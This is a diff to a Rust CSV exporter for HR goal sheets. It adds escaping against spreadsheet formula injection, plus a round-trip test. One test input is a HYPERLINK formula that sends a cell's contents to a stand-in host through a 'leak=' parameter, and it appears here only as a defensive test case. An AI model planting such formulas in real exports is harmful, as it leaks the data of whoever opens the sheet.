@@ -1,14 +1,56 @@
 //! CSV (RFC 4180, via the csv crate): one row per item with its slot values.
 //!
+//! **API boundary: the CSV columns.** Spreadsheets and HR systems map columns
+//! by name: columns are only added (at the end), never renamed or reordered.
+//!
 //! Columns: family, level, frame, item, label, text, baseline, target, date,
 //! source, canon, canon_version, exported (the export date, when given).
 //! `text` is the item's lines as in the text block (filled), joined by line feeds;
 //! `source` names the canon fields they quote, e.g. `responsibilities[0]; rubrics."knowledge-application"`.
+//!
+//! **Cells are never formulas.** A cell a spreadsheet would run as a formula
+//! (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) is written
+//! with a leading apostrophe, which Excel, LibreOffice and Google Sheets show
+//! as text and do not display; a cell that already starts with apostrophes
+//! before such a character gets one more, so that [`unescape_cell`] restores
+//! every value exactly ([`safe_cell`]).
+
+use std::borrow::Cow;
 
 use crate::frame::{Field, FrameKind, ProfileFrames, SlotKind};
 use crate::render::text;
 use crate::render::ExportInfo;
 use crate::values::Values;
+
+/// True when a spreadsheet would read a cell starting this way as a formula.
+fn starts_formula(text: &str) -> bool {
+    text.trim_start_matches('\'')
+        .starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// A cell as written: prefixed with `'` when a spreadsheet would run it as a formula.
+pub fn safe_cell(text: &str) -> Cow<'_, str> {
+    if starts_formula(text) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
+
+/// A cell as read back: [`safe_cell`] undone.
+pub fn unescape_cell(text: &str) -> &str {
+    match text.strip_prefix('\'') {
+        Some(rest) if starts_formula(rest) => rest,
+        _ => text,
+    }
+}
+
+/// Writes one record, every cell made safe.
+pub(crate) fn write_safe<W: std::io::Write>(writer: &mut ::csv::Writer<W>, cells: &[&str]) {
+    writer
+        .write_record(cells.iter().map(|c| safe_cell(c).into_owned()))
+        .expect("writing to memory");
+}
 
 /// The header row.
 pub const COLUMNS: [&str; 13] = [
@@ -63,8 +105,9 @@ pub fn document(
                     ""
                 }
             };
-            writer
-                .write_record([
+            write_safe(
+                &mut writer,
+                &[
                     frames.family.as_ref(),
                     frames.level.as_ref(),
                     kind.id(),
@@ -78,8 +121,8 @@ pub fn document(
                     frames.canon.name.as_ref(),
                     frames.canon.version.as_ref(),
                     info.date.as_deref().unwrap_or(""),
-                ])
-                .expect("writing to memory");
+                ],
+            );
         }
     }
     let bytes = writer.into_inner().expect("writing to memory");
@@ -98,6 +141,67 @@ fn field_path(field: &Field) -> Option<String> {
         _ => None,
     }
 }
+
+/// The goal sheet as CSV for an HR system: one row per goal, one line per
+/// cell, unfilled slots empty.
+///
+/// Columns ([`GOAL_COLUMNS`]): employee, period, goal (what it says), description
+/// (its filled lines, joined by ` | `), framework (`SMART`, `OKR`, `MBO`,
+/// `Balanced Scorecard`, `Own goal`), item (its key), weight (percent),
+/// baseline, target, due_date (the period end when not set for the goal),
+/// source (its provenance, or "Your own goal — not from the canon"), canon,
+/// canon_version.
+pub fn goal_sheet(goals: &crate::goals::GoalSheet<'_>) -> String {
+    let mut writer = ::csv::Writer::from_writer(Vec::new());
+    writer
+        .write_record(GOAL_COLUMNS)
+        .expect("writing to memory");
+    let sheet = goals.sheet;
+    let period = sheet
+        .period
+        .clone()
+        .or_else(|| goals.sheet.period_line())
+        .unwrap_or_default();
+    for row in &goals.rows {
+        let weight = row.weight.map(|w| w.to_string()).unwrap_or_default();
+        let description = goals.description(row);
+        let cells = [
+            sheet.person.as_deref().unwrap_or(""),
+            period.as_str(),
+            row.headline.as_str(),
+            description.as_str(),
+            row.framework.name(),
+            row.key.as_str(),
+            weight.as_str(),
+            row.baseline.as_deref().unwrap_or(""),
+            row.target.as_deref().unwrap_or(""),
+            row.due.as_deref().unwrap_or(""),
+            row.source.as_str(),
+            goals.frames.canon.name.as_ref(),
+            goals.frames.canon.version.as_ref(),
+        ];
+        write_safe(&mut writer, &cells);
+    }
+    let bytes = writer.into_inner().expect("writing to memory");
+    String::from_utf8(bytes).expect("CSV of UTF-8 text is UTF-8")
+}
+
+/// The goal sheet CSV's header row.
+pub const GOAL_COLUMNS: [&str; 13] = [
+    "employee",
+    "period",
+    "goal",
+    "description",
+    "framework",
+    "item",
+    "weight",
+    "baseline",
+    "target",
+    "due_date",
+    "source",
+    "canon",
+    "canon_version",
+];
 
 /// Values read back from a CSV export: the profile it was for and its filled slots.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -144,7 +248,7 @@ pub fn read_values(text: &str) -> Result<ReadBack, String> {
         let record =
             record.map_err(|e| format!("line {}: {e}", e.position().map_or(0, |p| p.line())))?;
         let line = record.position().map_or(0, |p| p.line());
-        let cell = |i: usize| record.get(i).unwrap_or("");
+        let cell = |i: usize| unescape_cell(record.get(i).unwrap_or(""));
         let this = (cell(family_col).to_string(), cell(level_col).to_string());
         match &profile {
             None => profile = Some(this),
@@ -172,4 +276,36 @@ pub fn read_values(text: &str) -> Result<ReadBack, String> {
         level,
         values,
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_cells_are_text_and_read_back_exactly() {
+        for value in [
+            "=1+1",
+            "+2+3",
+            "-4+5",
+            "@SUM(1+1)",
+            "\t=1",
+            "\r=1",
+            "=HYPERLINK(\"http://x?leak=\"&A2,\"click\")",
+            "'=1",
+            "''@x",
+            "plain",
+            "'quoted'",
+            "",
+        ] {
+            let written = safe_cell(value);
+            assert!(
+                !written.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{value:?}"
+            );
+            assert_eq!(unescape_cell(&written), value);
+        }
+        assert_eq!(safe_cell("=1+1"), "'=1+1");
+        assert_eq!(safe_cell("plain"), "plain");
+    }
 }
